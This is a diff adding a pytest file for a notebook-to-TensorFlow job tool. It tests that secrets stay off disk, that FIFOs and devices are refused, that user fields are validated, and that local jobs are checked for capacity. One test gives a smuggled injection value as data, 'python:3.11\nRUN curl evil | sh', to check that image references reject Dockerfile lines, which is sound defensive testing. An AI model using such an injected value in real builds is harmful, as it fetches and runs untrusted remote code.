@@ -1,0 +1,149 @@
+"""Issue 13, first part: the kernel's environment stays off the disk, files that are not files
+are never read, user strings are validated with full matches, --no-wait does not wait, and a
+local job this machine cannot hold is refused."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+from jobutil import plan_for, run_job, write_notebook
+
+from tfc_jupyter.backends.local import check_capacity
+from tfc_jupyter.capture import read_notebook
+from tfc_jupyter.catalog import lookup
+from tfc_jupyter.errors import BackendError, CaptureError, ConversionError, SpecError
+from tfc_jupyter.records import JobState
+from tfc_jupyter.requirements import Requirements
+from tfc_jupyter.spec import ImageSettings, JobSpec
+
+CANARY = "AKIAFAKE/canary-secret-value-0123456789"
+
+
+@pytest.mark.slow
+def test_the_kernels_environment_stays_off_the_disk(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """launch.json holds the job's variables only; the replica still sees the kernel's."""
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", CANARY)
+    nb = write_notebook(
+        tmp_path / "nb.ipynb",
+        f"import os\nprint('sees it:', os.environ.get('AWS_SECRET_ACCESS_KEY') == {CANARY!r})",
+    )
+    _, record = run_job(nb, tmp_path / "home")
+    assert record.state is JobState.SUCCEEDED, record.error
+    job_dir = Path(record.job_dir)
+    assert "sees it: True" in (job_dir / "logs" / "chief.log").read_text()
+    for path in job_dir.rglob("*"):
+        if path.is_file():
+            assert CANARY.encode() not in path.read_bytes(), path
+    launch = json.loads((job_dir / "launch.json").read_text())
+    assert "AWS_SECRET_ACCESS_KEY" not in launch["env"] and "PATH" not in launch["env"]
+
+
+@pytest.fixture
+def fifo(tmp_path: Path) -> Path:
+    path = tmp_path / "pipe"
+    os.mkfifo(path)
+    return path
+
+
+def _within(seconds: float, fn):  # type: ignore[no-untyped-def]
+    start = time.monotonic()
+    try:
+        return fn()
+    finally:
+        assert time.monotonic() - start < seconds, "it waited on a FIFO"
+
+
+def test_a_fifo_or_device_is_never_read(tmp_path: Path, fifo: Path) -> None:
+    with pytest.raises(Exception, match="is a FIFO, not a file"):
+        _within(5, lambda: Requirements().add_file(fifo))
+    with pytest.raises(Exception, match="is a character device"):
+        _within(5, lambda: Requirements().add_file(Path("/dev/zero")))
+    with pytest.raises(CaptureError, match="is a FIFO"):
+        _within(5, lambda: read_notebook(fifo))
+    big = tmp_path / "big.txt"
+    big.write_bytes(b"x" * 1_000_001)
+    with pytest.raises(Exception, match="is over 1 MB"):
+        Requirements().add_file(big)
+
+
+def test_pip_r_fifo_in_a_notebook(tmp_path: Path, fifo: Path) -> None:
+    nb = write_notebook(tmp_path / "nb.ipynb", f"%pip install -r {fifo.name}")
+    with pytest.raises(ConversionError, match="is a FIFO"):
+        _within(5, lambda: plan_for(nb))
+
+
+def test_include_skips_fifos_and_refuses_devices(tmp_path: Path) -> None:
+    data = tmp_path / "data"
+    data.mkdir()
+    (data / "rows.csv").write_text("a\n1\n")
+    os.mkfifo(data / "pipe")
+    (tmp_path / "zero").symlink_to("/dev/zero")
+    nb = write_notebook(tmp_path / "nb.ipynb", "%%tfc_run --backend docker --dry-run\nx = 1")
+    plan = _within(10, lambda: plan_for(nb, "--include data"))
+    assert plan.context is not None
+    assert "app/data/rows.csv" in {e.arcname for e in plan.context.entries}
+    assert ("data/pipe", "a FIFO, not a file") in plan.context.left_out
+    with pytest.raises(SpecError, match="--include zero: it is a character device"):
+        plan_for(nb, "--include zero")
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("project", "my-project\n"),
+        ("region", "us-central1\n"),
+        ("name", "job\n"),
+        ("service_account", "trainer@my-project.iam.gserviceaccount.com\n"),
+    ],
+)
+def test_a_trailing_newline_is_refused(field: str, value: str) -> None:
+    with pytest.raises(SpecError):
+        JobSpec(**{field: value})  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize("flag", ["parent_image", "image", "cache_from"])
+def test_image_references_cannot_carry_dockerfile_lines(flag: str) -> None:
+    with pytest.raises(SpecError, match="is not an image reference"):
+        JobSpec(image=ImageSettings(**{flag: "python:3.11\nRUN curl evil | sh"}))
+
+
+def test_run_no_wait_returns_at_once(tmp_path: Path) -> None:
+    nb = write_notebook(tmp_path / "nb.ipynb", "import time\ntime.sleep(20)")
+    env = {**os.environ, "TFC_JUPYTER_HOME": str(tmp_path / "home")}
+    start = time.monotonic()
+    done = subprocess.run(
+        [sys.executable, "-m", "tfc_jupyter.cli", "run", str(nb), "--no-wait"],
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=60,
+    )
+    assert done.returncode == 0, done.stderr
+    assert time.monotonic() - start < 15
+    job_id = done.stdout.strip()
+    cancel = subprocess.run(
+        [sys.executable, "-m", "tfc_jupyter.cli", "cancel", job_id],
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=60,
+    )
+    assert cancel.returncode == 0, cancel.stderr
+
+
+def test_a_local_job_this_machine_cannot_hold_is_refused() -> None:
+    spec = JobSpec(chief=lookup("CPU"), worker_count=256)
+    with pytest.raises(BackendError) as info:
+        check_capacity(spec, cores=2, free_gb=20.0)
+    text = str(info.value)
+    assert "257 TensorFlow processes" in text and "2 cores and 20.0 GB available" in text
+    assert "--backend vertex" in text
+    check_capacity(JobSpec(chief=lookup("CPU"), worker_count=2), cores=2, free_gb=20.0)
